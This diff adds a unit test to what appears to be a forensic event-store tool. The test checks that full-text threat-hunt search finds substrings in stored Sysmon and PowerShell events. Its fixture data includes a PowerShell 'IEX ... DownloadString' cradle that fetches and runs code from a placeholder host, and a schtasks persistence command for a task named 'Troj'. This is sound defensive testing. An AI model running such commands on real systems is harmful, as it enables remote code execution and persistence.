@@ -9,6 +9,7 @@
 #include "core/store/entity_ids.h"
 #include "core/store/event_cursor.h"
 #include "core/store/event_writer.h"
+#include "core/store/hunt_query.h"
 #include "core/store/statement.h"
 #include "tests_support/test_paths.h"
 
@@ -123,6 +124,48 @@ private slots:
         QVERIFY(cur2.next(s));
         QCOMPARE(s.event.channel, std::string("System"));
         QVERIFY(!cur2.next(s));
+    }
+
+    void textSearchMatchesSubstringsOfEveryWord() {
+        auto c = CaseFile::open(hitome::test::scratchDir("evstore") / "fts.hitome");
+        QVERIFY(c.ok());
+        Connection& conn = c->connection();
+        EntityIds ids(conn);
+        EventWriter w(conn, ids);
+        const auto src = addSource(conn, "fts");
+        QVERIFY(w.add(makeEvent(1, kSysmon, kT0, {{"Image", "C:\\Windows\\System32\\schtasks.exe"},
+                                                  {"CommandLine", "schtasks /create /SC ONCE /TN Troj /TR C:\\x\\b.exe /F"}}),
+                      src).ok());
+        QVERIFY(w.add(makeEvent(4104, "Microsoft-Windows-PowerShell/Operational", kT0 + 1,
+                                {{"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"}}),
+                      src).ok());
+        QVERIFY(w.add(makeEvent(1, kSysmon, kT0 + 2, {{"CommandLine", "cmd /c \"echo 100% done\" OR NOT"}}), src).ok());
+        QVERIFY(w.flush().ok());
+        auto count = [&](const char* text) {
+            HuntQuery q;
+            q.text = text;
+            auto r = queryHuntIds(conn, q);
+            return r ? static_cast<int>(r->ids.size()) : -1;
+        };
+        QCOMPARE(count("schtasks"), 1);            // inside schtasks.exe and the command
+        QCOMPARE(count("/create"), 1);
+        QCOMPARE(count("SCHTASKS /CREATE"), 1);    // case-insensitive, every word
+        QCOMPARE(count("schtasks download"), 0);   // both words must occur in one event
+        QCOMPARE(count("downloadstring"), 1);      // inside ").DownloadString("
+        QCOMPARE(count("/F"), 1);                  // two characters: LIKE fallback
+        QCOMPARE(count("\"100% done\""), 1);     // quotes keep the blank; % is literal
+        QCOMPARE(count("0%"), 1);
+        QCOMPARE(count("_%"), 0);
+        QCOMPARE(count("OR NOT"), 1);              // FTS5 operators are plain words
+        QCOMPARE(count("\" AND (\""), 0);         // hostile syntax: no error, no match
+        EventFilter f;
+        f.text = "webclient";
+        EventCursor cur(conn, f);
+        StoredEvent s;
+        QVERIFY(cur.next(s));
+        QCOMPARE(s.event.eventId, 4104u);
+        QVERIFY(!cur.next(s));
+        QVERIFY(cur.status().ok());
     }
 
     void sysmonTreeByGuidWithTermination() {
